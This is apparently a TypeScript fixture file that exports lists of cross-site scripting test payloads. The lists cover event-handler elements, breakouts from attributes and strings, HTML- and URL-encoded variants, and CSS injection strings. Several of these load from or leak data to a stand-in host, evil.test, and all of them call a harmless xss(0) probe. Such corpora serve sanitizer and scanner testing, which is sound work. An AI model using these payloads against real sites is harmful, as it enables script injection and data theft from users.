const HANDLERS =
  'abort animationend animationiteration animationstart auxclick beforecopy beforeinput beforematch beforepaste beforetoggle blur cancel canplay change click contextmenu copy cuechange dblclick drag dragstart drop error focus focusin formdata hashchange ' +
  'input keydown keyup load loadstart message mousedown mouseenter mousemove mouseover mousewheel pageshow paste play pointerdown pointerenter pointermove pointerover pointerrawupdate popstate readystatechange reset resize scroll scrollend search ' +
  'securitypolicyviolation select selectionchange selectstart show submit toggle touchstart transitionend transitionrun unhandledrejection unload webkitanimationstart wheel';

/** Each kind of event, on something that takes the focus and moves by itself. */
export const handlers: readonly string[] = HANDLERS.split(' ').map((event) => `<b style="animation:spin 1s" tabindex=1 autofocus on${event}=xss(0)>0</b>`);

/** Out of the attribute, or of the string within it, that the text was put into. */
export const breakouts = [
  '"><script>xss(0)</script>', "'><script>xss(0)</script>", '`><script>xss(0)</script>', '><script>xss(0)</script>', '"/><img src=x onerror=xss(0)>', '" autofocus onfocus="xss(0)', "' autofocus onfocus='xss(0)", '` autofocus onfocus=xss(0) `', '" onmouseover="xss(0)" x="', "' onmouseover='xss(0)' x='",
  '"onload="xss(0)', ' onload=xss(0) ', '\nonload=xss(0)\n', '\tautofocus\tonfocus=xss(0)', '\u000conload=xss(0)', '\u2028onload=xss(0)\u2029', '\u00a0onload=xss(0)', '"\u0000onload="xss(0)', '" style="background:url(//evil.test/0)', '" style="animation-name:x" onanimationstart="xss(0)',
  '" formaction="javascript:xss(0)', '" srcdoc="<script>parent.xss(0)</script>', '" href="javascript:xss(0)', '" http-equiv="refresh" content="0;javascript:xss(0)', '&quot;><script>xss(0)</script>', '&quot; onload=&quot;xss(0)', '&#34;&#62;<script>xss(0)</script>', '&#x22;onload=xss(0)', '&apos; onload=xss(0) &apos;',
  '\\"><script>xss(0)</script>', "\\'><script>xss(0)</script>", '%22%3E%3Cscript%3Exss(0)%3C/script%3E', '%2522%253E%253Cscript%253Exss(0)%253C/script%253E', '%27%20onload=xss(0)', '\uff02\uff1e<script>xss(0)</script>', '\u201c><script>xss(0)</script>', '\u02ba><script>xss(0)</script>', '" accesskey=x onclick="xss(0)', '"></title><script>xss(0)</script>', '"} onload={xss(0)} x={"',
] as const;

/** Nothing to a browser until something decodes it once more. */
export const encoded = [
  '&lt;script&gt;xss(0)&lt;/script&gt;', '&#60;script&#62;xss(0)&#60;/script&#62;', '&#x3c;script&#x3e;xss(0)&#x3c;/script&#x3e;', '&#0000060script&#0000062xss(0)&#0000060/script&#0000062', '&LT;script&GT;xss(0)&LT;/script&GT;', '&amp;lt;script&amp;gt;xss(0)&amp;lt;/script&amp;gt;', '&amp;#60;img src=x onerror=xss(0)&amp;#62;',
  '%3Cscript%3Exss(0)%3C%2Fscript%3E', '%253Cscript%253Exss(0)%253C%252Fscript%253E', '%u003Cscript%u003Exss(0)%u003C/script%u003E', '%C0%BCscript%C0%BExss(0)', '\\x3cscript\\x3exss(0)\\x3c/script\\x3e', '\\u003cscript\\u003exss(0)\\u003c/script\\u003e', '\\74script\\76xss(0)\\74/script\\76', '+ADw-script+AD4-xss(0)+ADw-/script+AD4-',
  '&ltscript&gtxss(0)&lt/script&gt', '&bsol;u003cscript>xss(0)', '<\\/script><script>xss(0)<\\/script>', '&lt;img src=x onerror=xss(0)&gt;', '&NewLine;<img src=x onerror=xss(0)>', '\u00bcscript\u00bexss(0)\u00bc/script\u00be', '\u2039script\u203axss(0)\u2039/script\u203a', '\u02c2img src=x onerror=xss(0)\u02c3', '\ufe64script\ufe65xss(0)\ufe64/script\ufe65', '&#xfffffff3c;script>xss(0)',
] as const;

export const styles = [
  '<style>@import"//evil.test/0.css";</style>', "<style>@import url('//evil.test/0')</style>", '<style>*{background:url(//evil.test/0)}</style>', '<style>*{background:url(javascript:xss(0))}</style>', '<style>x{width:expression(xss(0))}</style>', '<style>*{-moz-binding:url(//evil.test/0#x)}</style>', '<style>*{behavior:url(//evil.test/0.htc)}</style>',
  '<style>@font-face{font-family:x;src:url(//evil.test/0)}</style>', '<style>input[value^=a]{background:url(//evil.test/0)}</style>', '<style></style><script>xss(0)</script>', '<b style="background:url(//evil.test/0)">0</b>', '<b style="width:expression(xss(0))">0</b>', '<b style=xss:expr/**/ession(xss(0))>0</b>',
  '<b style="background-image:url(&#1;javascript:xss(0))">0</b>', '<style>@namespace x "//evil.test/0";@\\69mport "//evil.test/0"</style>', '}*{background:url(//evil.test/0)}', '</style><style>body{display:none}</style><img src=x onerror=xss(0)>', 'red;background:url(//evil.test/0)', 'url("//evil.test/0")', "');}</style><script>xss(0)</script>", 'expression(xss(0))', '@import "//evil.test/0";',
] as const;
